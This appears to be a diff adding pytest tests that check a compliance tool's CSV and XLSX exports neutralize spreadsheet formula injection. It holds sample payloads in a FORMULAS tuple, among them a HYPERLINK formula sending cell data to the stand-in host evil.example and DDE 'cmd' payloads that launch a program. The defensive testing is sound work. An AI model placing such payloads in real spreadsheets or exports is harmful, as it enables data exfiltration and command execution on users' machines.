@@ -131,3 +131,109 @@ def test_templates_autoescape_and_mark_nothing_safe_but_the_escaped_svg() -> Non
 @pytest.fixture(scope="module")
 def client_sample(org_store) -> TestClient:
     return TestClient(create_app(ServerSettings(), org_store))
+
+
+# -- spreadsheet exports -------------------------------------------------------------------------
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+            "\uff1d1+1")
+
+
+def test_cells_a_spreadsheet_would_run_are_prefixed_numbers_are_not() -> None:
+    import csv
+    import io
+
+    from aimsgraph.spreadsheet import rows_csv
+
+    rows = [{"text": f, "number": "-5"} for f in FORMULAS]
+    read = list(csv.DictReader(io.StringIO(rows_csv(rows, ["text", "number"]))))
+    assert [r["text"] for r in read] == ["'" + f.replace("\r", "\n") for f in FORMULAS]
+    assert {r["number"] for r in read} == {"-5"}
+
+
+def test_no_xlsx_cell_is_a_formula_and_numbers_stay_numbers(tmp_path) -> None:
+    from openpyxl import load_workbook
+
+    from aimsgraph.spreadsheet import rows_xlsx
+
+    rows = [{"text": f, "count": -5, "ratio": -0.25} for f in FORMULAS]
+    path = tmp_path / "t.xlsx"
+    with path.open("wb") as out:
+        rows_xlsx(rows, out, "t")
+    sheet = load_workbook(path).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = [c for c in cells if c.column == 1 and c.row > 1]
+    # XML reads a CR as LF
+    assert [c.value for c in texts] == [f.replace("\r", "\n") for f in FORMULAS]
+    assert all(c.quotePrefix for c in texts)
+    assert {(c.value, c.data_type) for c in cells if c.column == 2 and c.row > 1} == {(-5, "n")}
+
+
+@pytest.fixture(scope="module")
+def hostile_org(tmp_path_factory) -> Path:
+    """The sample organization with formulas in a justification and in a person's name."""
+    import csv
+    import io
+
+    folder = tmp_path_factory.mktemp("hostile") / "acme-lending"
+    shutil.copytree(ROOT / "examples" / "acme-lending", folder)
+    for name, column, value in (("controls.csv", "justification", FORMULAS[0]),
+                                ("people.csv", "name", FORMULAS[3])):
+        path = folder / name
+        rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
+        rows[0][column] = value
+        out = io.StringIO()
+        writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
+        writer.writeheader()
+        writer.writerows(rows)
+        path.write_text(out.getvalue(), encoding="utf-8")
+    return folder
+
+
+def assert_neutral_csv(text: str) -> None:
+    import csv
+    import io
+
+    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+    assert "'" + FORMULAS[0] in cells or "'" + FORMULAS[3] in cells
+    from aimsgraph.spreadsheet import runs_as_formula
+
+    assert not [c for c in cells if runs_as_formula(c)]
+
+
+def assert_no_formula(path: Path) -> None:
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(path).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert {FORMULAS[0], FORMULAS[3]} & {c.value for c in cells}
+
+
+def test_cli_exports_are_neutralized(hostile_org, tmp_path, capsys) -> None:
+    from aimsgraph.cli import main
+
+    args = ["--data", str(hostile_org)]
+    assert main(["soa", *args, "--format", "xlsx", "-o", str(tmp_path / "soa.xlsx")]) == 0
+    assert_no_formula(tmp_path / "soa.xlsx")
+    assert main(["soa", *args, "--format", "csv", "-o", str(tmp_path / "soa.csv")]) == 0
+    assert_neutral_csv((tmp_path / "soa.csv").read_text(encoding="utf-8"))
+    assert main(["ims", *args, "--view", "soa", "--format", "xlsx",
+                 "-o", str(tmp_path / "ims.xlsx")]) == 0
+    assert_no_formula(tmp_path / "ims.xlsx")
+    assert main(["ims", *args, "--view", "soa", "--format", "csv",
+                 "-o", str(tmp_path / "ims.csv")]) == 0
+    assert_neutral_csv((tmp_path / "ims.csv").read_text(encoding="utf-8"))
+    assert main(["impact", *args, str(ROOT / "changes" / "eu-ai-act-digital-omnibus-2025.yaml"),
+                 "--csv", str(tmp_path / "impact.csv")]) == 0
+    assert_neutral_csv((tmp_path / "impact.csv").read_text(encoding="utf-8"))
+
+
+def test_web_and_rest_downloads_are_neutralized(hostile_org, tmp_path) -> None:
+    client = TestClient(create_app(ServerSettings(), open_store([hostile_org])))
+    (tmp_path / "soa.xlsx").write_bytes(client.get("/ui/soa/download.xlsx").content)
+    assert_no_formula(tmp_path / "soa.xlsx")
+    assert_neutral_csv(client.get("/ui/soa/download.csv").text)
+    assert_neutral_csv(client.get("/soa", headers={"Accept": "text/csv"}).text)
